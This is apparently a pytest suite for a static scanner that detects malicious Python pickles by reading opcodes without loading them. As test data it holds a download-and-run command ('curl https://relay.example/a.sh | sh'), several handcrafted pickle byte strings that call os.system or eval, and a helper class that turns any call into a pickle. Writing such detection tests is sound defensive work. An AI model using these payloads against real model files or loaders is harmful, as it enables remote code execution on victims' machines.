"""What pickles do is read from their opcodes; nothing is ever loaded."""

from __future__ import annotations

import collections
import datetime as dt
import decimal
import gzip
import os
import pathlib
import pickle
import re
import subprocess
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fimci import readers
from fimci.model import Capability
from fimci.readers.binary import opcodes


class Reduced:
    """Something that is pickled as a call."""

    def __init__(self, function: Callable[..., object], *arguments: object) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.call


def told(data: bytes, path: str = "model.pkl") -> list[Capability]:
    found: list[Capability] = []
    for reader in readers.with_code(path):
        if reader.name.startswith("pickle") and reader.wants(path, data[:4096]):
            found += [one for one in reader.read(path, data) if isinstance(one, Capability)]
    return found


def subjects(data: bytes, path: str = "model.pkl") -> set[tuple[str, str]]:
    return {(one.name, one.subject) for one in told(data, path)}


SYSTEM = f"pickle that calls {os.system.__module__}.system"
FETCH = "curl https://relay.example/a.sh | sh"


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
def test_a_reduced_call_is_told_with_what_it_runs(protocol: int) -> None:
    found = told(pickle.dumps({"deep": [1, Reduced(os.system, FETCH)]}, protocol))
    assert {("encoded-payload", SYSTEM), ("download-and-run", "relay.example -> sh")} <= {
        (one.name, one.subject) for one in found
    }
    assert {one.phase for one in found} == {"import"}
    assert all(re.match(r"opcode at byte \d+: ", one.at.text) for one in found)


@pytest.mark.parametrize(
    "data",
    [
        b"cos\nsystem\n(S'id'\ntR.",
        b"(S'id'\nios\nsystem\n.",
        b"\x80\x02(cos\nsystem\nX\x02\x00\x00\x00ido.",
        b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x8c\x02id\x85R.",
        b"\x80\x04\x8c\x06system\x94\x8c\x02os\x94h\x01h\x00\x93\x8c\x02id\x85R.",
        (
            b"\x80\x04\x8c\x08builtins\x8c\x07getattr\x93\x8c\x08builtins\x8c\x0a__import__\x93\x8c\x02os\x85R"
            b"\x8c\x06system\x86R\x8c\x02id\x85R."
        ),
        b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c\x1e__import__('os').system('id')#\x85R.",
    ],
    ids=["global", "inst", "obj", "stack global", "memo", "getattr", "eval"],
)
def test_spellings_of_one_call(data: bytes) -> None:
    found = subjects(data)
    assert ("shell", "id") in found
    assert any(name == "encoded-payload" for name, _ in found)


def test_without_a_name_the_bytes_tell() -> None:
    assert ("encoded-payload", "pickle that calls posix.system") in subjects(
        b"cposix\nsystem\n(S'id'\ntR.", "data/weights.dat"
    )
    assert ("encoded-payload", SYSTEM) in subjects(pickle.dumps(Reduced(os.system, "id")), "logo.png")


def test_compressed_and_arrays_and_several() -> None:
    payload = pickle.dumps(Reduced(os.system, "id"))
    assert ("encoded-payload", SYSTEM) in subjects(zlib.compress(payload), "model.joblib")
    assert ("encoded-payload", SYSTEM) in subjects(gzip.compress(payload), "model.pkl.gz")
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    array = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
    assert ("encoded-payload", SYSTEM) in subjects(array + payload, "model.npy")
    assert ("encoded-payload", SYSTEM) in subjects(pickle.dumps(1) + payload)


def test_a_pickle_in_a_pickle() -> None:
    inside = pickle.dumps(Reduced(eval, "__import__('os').system('id')"))
    assert ("encoded-payload", "pickle that calls builtins.eval") in subjects(
        pickle.dumps(Reduced(pickle.loads, inside))
    )
    assert ("shell", "id") in subjects(pickle.dumps({"weights": inside}))


def test_a_name_that_is_no_constant() -> None:
    data = b"\x80\x04\x8c\x05posix\x8c\x04text\x8c\x05lower\x93)R\x93\x8c\x02id\x85R."
    assert ("obfuscation", "pickle whose global has no constant name") in subjects(data)


#: As picklers of others write them; their modules need not be there.
NUMPY = (
    b"\x80\x02cnumpy.core.multiarray\n_reconstruct\nq\x00cnumpy\nndarray\nq\x01K\x00\x85q\x02c_codecs\nencode\nq\x03"
    b"X\x01\x00\x00\x00bq\x04X\x06\x00\x00\x00latin1q\x05\x86q\x06Rq\x07\x87q\x08Rq\x09(K\x01K\x03\x85q\ncnumpy\ndtype"
    b"\nq\x0bX\x02\x00\x00\x00f8q\x0cK\x00K\x01\x87q\rRq\x0e\x89C\x18" + bytes(24) + b"q\x0ftq\x10b."
)
TORCH = (
    b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x06\x00\x00\x00weightctorch._utils\n_rebuild_tensor_v2\nq\x02"
    b"((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQK\x00K\x04\x85"
    b"K\x01\x85\x89ccollections\nOrderedDict\n)RtRs."
)
SCIKIT = (
    b"\x80\x04csklearn.linear_model._logistic\nLogisticRegression\n)\x81}(X\x07\x00\x00\x00classes"
    b"cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\nX\x02\x00\x00\x00i8\x89\x88\x87RC\x08"
    + bytes(8)
    + b"\x86RX\x01\x00\x00\x00fcbuiltins\ngetattr\ncsklearn.tree._tree\nTree\nX\x04\x00\x00\x00root\x86Rub."
)


@pytest.mark.parametrize(
    "data",
    [
        NUMPY,
        TORCH,
        SCIKIT,
        pickle.dumps(
            [
                collections.OrderedDict(left=1),
                dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc),
                decimal.Decimal(1),
                pathlib.PurePosixPath("left"),
                re.compile("left"),
                ValueError("left"),
                "left".join,
                collections.defaultdict(list),
                subprocess.CompletedProcess(["left"], 0),
                os.stat(__file__),
            ]
        ),
    ],
    ids=["numpy", "torch", "scikit-learn", "standard library"],
)
def test_what_makes_objects_anew_is_silent(data: bytes) -> None:
    assert subjects(data) == set()


def test_what_is_no_pickle_is_silent() -> None:
    assert subjects(b"\x80\x04" + bytes(range(256)), "noise.bin") == set()
    assert subjects(b"cos\nsin\ntan\n", "words.txt") == set()
    assert subjects(b"version https://git-lfs.example/spec/v1\n") == set()
    assert subjects(b"Some text that is called so.\n", "story.pickle") == set()


def test_damage_is_told_and_what_stands_behind_it() -> None:
    whole = pickle.dumps(Reduced(os.system, "id"), 2)
    assert subjects(pickle.dumps(list(range(99)))[:-9]) == {
        ("unanalyzed", "pickle: it is damaged, or ends too early")
    }
    assert ("encoded-payload", SYSTEM) in subjects(whole[:-1])
    assert ("encoded-payload", SYSTEM) in subjects(b"\x80\x02\xff" + whole)


def test_opcodes_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opcodes, "_OPCODES", 100)
    found = subjects(pickle.dumps(list(range(200))))
    assert found == {("unanalyzed", "pickle: more than 100 opcodes")}


def test_a_deep_pickle_costs_what_it_is_long() -> None:
    deep = b"\x80\x02" + b")" + b"\x85" * 100_000 + b"."
    assert subjects(deep) == set()
    again = b"\x80\x02cleft\nright\n" + b"(S'x'\nt" + b"q\x00" + b"h\x00\x86" * 2000 + b"R."
    assert {name for name, _ in subjects(again)} <= {"unanalyzed"}


@given(st.binary(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_bytes_have_a_reading(tail: bytes) -> None:
    told(b"\x80\x04" + tail)
    told(tail)
